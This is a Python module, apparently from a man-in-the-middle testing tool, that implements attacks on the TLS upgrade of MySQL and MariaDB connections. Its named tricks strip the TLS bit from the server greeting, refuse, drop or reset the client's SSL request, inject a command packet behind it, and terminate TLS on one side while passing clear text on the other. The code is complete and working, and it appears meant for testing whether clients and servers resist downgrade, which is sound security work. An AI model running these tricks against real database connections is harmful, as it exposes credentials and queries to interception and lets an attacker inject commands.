# SPDX-License-Identifier: GPL-2.0-or-later
"""What a man in the middle does to the upgrade of MySQL and MariaDB: a bit in the greeting, and a short packet."""
from attacker import Trick
from protocol import GREETING, Protocol, answer, at_request, handshake_tricks, reset, swallow

CLIENT_SSL, SSL_REQUEST_BYTES = 0x08, 36
SSL_REQUEST = b"\x20\0\0\1\x01\x8a\0\0\0\0\0\1\x21" + bytes(23)    # protocol 4.1 and its login, TLS
ERROR = b"\xff\x13\x04#08S01Bad handshake"
COMMAND = b"\x01\0\0\x02\x0e"


class Mysql(Protocol):
    """Packets: three bytes of length, a number, the rest. The request for TLS has no reply."""

    at_once = SSL_REQUEST_BYTES     # what lies behind it is for who shakes hands

    def unit(self, talk, from_client, data):
        return 4 + int.from_bytes(data[:3], "little") if len(data) >= 4 else 0

    def verb(self, unit):
        return b"SSL" if len(unit) == SSL_REQUEST_BYTES and unit[5] & CLIENT_SSL else b"login"

    def answer(self, unit, text):
        return len(text).to_bytes(3, "little") + bytes([unit[3] + 1]) + text


def without_bit(talk, asked, data):
    """Clear CLIENT_SSL in the greeting: it lies 13 bytes behind the server's version."""
    if asked != GREETING or data[4] != 10:
        return data
    at = data.index(b"\0", 5) + 15
    return data[:at] + bytes([data[at] & ~CLIENT_SSL & 0xFF]) + data[at + 1:]


def first_packet(act):
    """Behind the client's first packet comes TLS, or what is none of our business."""
    def command(talk, unit):
        out = act(talk, unit)
        talk.go_opaque(tls=talk.protocol.asks(unit))
        return out
    return command


def with_bit(login, on=True):
    return login[:5] + bytes([login[5] | CLIENT_SSL if on else login[5] & ~CLIENT_SSL & 0xFF]) + login[6:]


def renumbered(packet, by):
    """The request for TLS counts as a packet: who has sent or got one is ahead of who has not."""
    return packet[:3] + bytes([packet[3] + by & 0xFF]) + packet[4:]


def until_login(by):
    """The server's packets with the client's numbers, until it has decided on the login."""
    def reply(talk, asked, data):
        if asked == GREETING:
            return data if by > 0 else without_bit(talk, asked, data)
        if data[4] in (0x00, 0xFF):
            talk.go_opaque(tls=False)
        return renumbered(data, by)
    return reply


def tls_with_client(talk, unit):
    """There is no reply to the request: TLS begins behind it."""
    if talk.protocol.asks(unit):
        talk.terminate_client_tls()
        return None
    return renumbered(with_bit(unit, False) if unit[3] == 2 else unit, -1)


def tls_with_server(talk, unit):
    """The beginning of a login, with the bit set, is the request."""
    if unit[3] == 1:
        unit = with_bit(unit)
        talk.tell_server(b"\x20\0\0\1" + unit[4:SSL_REQUEST_BYTES])
        talk.start_server_tls()
    return renumbered(unit, 1)


def join(talk):
    """The request for TLS has no reply."""
    talk.protocol.ask(talk, None)
    talk.tell_server(SSL_REQUEST)
    talk.asked.clear()
    talk.go_opaque()


PROTOCOL = Mysql(b"SSL", rb"(?!)")

TRICKS = {
    "pass": Trick("forward everything"),
    "strip-offer": Trick("clear the bit of TLS in the greeting", reply=without_bit),
    "refuse-perm": Trick("answer the request with an error", command=at_request(answer(ERROR))),
    "swallow": Trick("drop the request", command=at_request(swallow)),
    "reset-request": Trick("answer the request with RST", command=at_request(reset)),
    "inject-command": Trick("put a command behind the request", command=at_request(lambda talk, unit: unit + COMMAND)),
}
TRICKS.update(handshake_tricks())
TRICKS["join"].first = join
for trick in TRICKS.values():
    trick.command = first_packet(trick.command)
TRICKS["tls-to-client"] = Trick("TLS with the client, clear text to the server", command=tls_with_client, reply=until_login(1))
TRICKS["tls-to-server"] = Trick("clear text with the client, TLS to the server", command=tls_with_server, reply=until_login(-1))
